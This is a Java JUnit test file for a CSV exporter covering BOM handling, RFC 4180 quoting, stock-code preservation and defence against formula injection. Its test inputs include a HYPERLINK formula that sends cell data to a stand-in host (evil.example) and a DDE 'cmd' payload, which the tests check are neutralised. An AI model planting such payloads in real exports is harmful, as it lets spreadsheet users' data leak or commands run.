package com.mandatewatch.report;

import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;

import static org.junit.jupiter.api.Assertions.*;

/** C50 (BOM), C51 (formula injection without corrupting negative numbers), C53 (codes intact), RFC 4180. */
class CsvTest {
    static String cell(Csv.Cell c) { return Csv.line(List.of(c)).replace("\r\n", ""); }

    @Test
    @DisplayName("C50 the file starts with EF BB BF and the Chinese text is UTF-8")
    void c50Bom() {
        byte[] bytes = Csv.document(List.of("客户", "证券"), List.of(List.of(Csv.text("某某人寿-企业年金"), Csv.text("贵州茅台"))));
        assertArrayEquals(new byte[]{(byte) 0xEF, (byte) 0xBB, (byte) 0xBF}, Arrays.copyOf(bytes, 3));
        String text = new String(bytes, 3, bytes.length - 3, StandardCharsets.UTF_8);
        assertEquals("客户,证券\r\n某某人寿-企业年金,贵州茅台\r\n", text);
        assertEquals("text/csv; charset=utf-8", Csv.CONTENT_TYPE);
    }

    @ParameterizedTest(name = "C51 neutralised: {0}")
    @ValueSource(strings = {"=HYPERLINK(\"http://evil.example/?x=\"&A2,\"详情\")", "+cmd|' /C calc'!A0", "@SUM(1,1)",
            "\tleading tab", "\rleading CR", "＝1+1", "＋1", "－1", "＠SUM(1)", "-2+3", "-A1", "=1", "-", "\u00a0=1+1", " =1+1", "\u3000@SUM(1)"})
    void c51FormulaStartsAreNeutralised(String value) {
        Csv.Cell c = Csv.text(value);
        assertEquals("'" + value, c.value());
        // RFC 4180 still holds: the file reads back to the neutralised text
        assertEquals(List.of(List.of("'" + value, "x")), Csv.parse(Csv.line(List.of(c, Csv.text("x")))));
    }

    @Test
    @DisplayName("C51 the HYPERLINK cell is quoted with doubled quotes: \"'=HYPERLINK(\"\"http…\"\",\"\"详情\"\")\"")
    void c51QuotedInjection() {
        assertEquals("\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A2,\"\"详情\"\")\"",
                cell(Csv.text("=HYPERLINK(\"http://evil.example/?x=\"&A2,\"详情\")")));
    }

    @Test
    @DisplayName("C51/C53 negative numbers stay numbers: a number cell and a plain negative decimal text are never prefixed")
    void negativeNumbersUntouched() {
        assertEquals("-1234.50", cell(Csv.number(new BigDecimal("-1234.50"))));
        assertEquals("-0.05", cell(Csv.number(new BigDecimal("-0.05"))));
        assertEquals("100000000.00", cell(Csv.number(new BigDecimal("100000000.00"))));
        assertEquals("-5", cell(Csv.text("-5")));
        assertEquals("-0.25", cell(Csv.text("-0.25")));
        assertEquals("", cell(Csv.number(null)));
        assertEquals("1E+3", new BigDecimal("1E+3").toString());
        assertEquals("1000", cell(Csv.number(new BigDecimal("1E+3"))), "plain, never scientific notation");
    }

    @Test
    @DisplayName("RFC 4180: commas, quotes, CR and LF are quoted and escaped; plain text is not")
    void quoting() {
        assertEquals("a,\"b,c\",\"say \"\"hi\"\"\",\"line1\nline2\",\"cr\rx\",d\r\n",
                Csv.line(List.of(Csv.text("a"), Csv.text("b,c"), Csv.text("say \"hi\""), Csv.text("line1\nline2"),
                        Csv.text("cr\rx"), Csv.text("d"))));
        assertEquals(List.of(List.of("a", "b,c", "say \"hi\"", "line1\nline2", "cr\rx", "d")),
                Csv.parse("a,\"b,c\",\"say \"\"hi\"\"\",\"line1\nline2\",\"cr\rx\",d\r\n"));
        assertEquals(",\r\n", Csv.line(List.of(Csv.text(null), Csv.text(""))));
    }

    @Test
    @DisplayName("C53 codes keep leading zeros and all 18 digits: 000001.SZ as it is, all-digit codes as =\"…\", and they re-import intact")
    void c53Codes() {
        assertEquals("000001.SZ", cell(Csv.code("000001.SZ")));
        assertEquals("600519.SH", cell(Csv.code("600519.SH")));
        assertEquals("\"=\"\"000001\"\"\"", cell(Csv.code("000001")));
        assertEquals("\"=\"\"622848001234567890\"\"\"", cell(Csv.code("622848001234567890")));
        assertEquals("\"=\"\"2025-01\"\"\"", cell(Csv.code("2025-01")), "a month Excel would turn into a date");
        assertEquals("A001", cell(Csv.code("A001")));
        assertEquals("'=1+1", cell(Csv.code("=1+1")), "a code that is not all digits gets the text rules");
        // every code Excel would read as a number, not only the all-digit ones: signs, exponents, points, slashes
        for (String numeric : List.of("-5", "-1", "1E5", "1e5", "+7", "1.5", "3/4", "12:30", "50%")) {
            assertEquals("\"=\"\"" + numeric + "\"\"\"", cell(Csv.code(numeric)), numeric);
        }
        assertEquals("K-2014-001", cell(Csv.code("K-2014-001")));
        byte[] file = Csv.document(List.of("证券", "账户"), List.of(
                List.of(Csv.code("000001.SZ"), Csv.code("622848001234567890")),
                List.of(Csv.code("002594"), Csv.code("600519")), List.of(Csv.code("-5"), Csv.code("1E5"))));
        assertEquals(List.of(List.of("证券", "账户"), List.of("000001.SZ", "622848001234567890"), List.of("002594", "600519"),
                        List.of("-5", "1E5")),
                Csv.parse(new String(file, StandardCharsets.UTF_8)));
    }
}
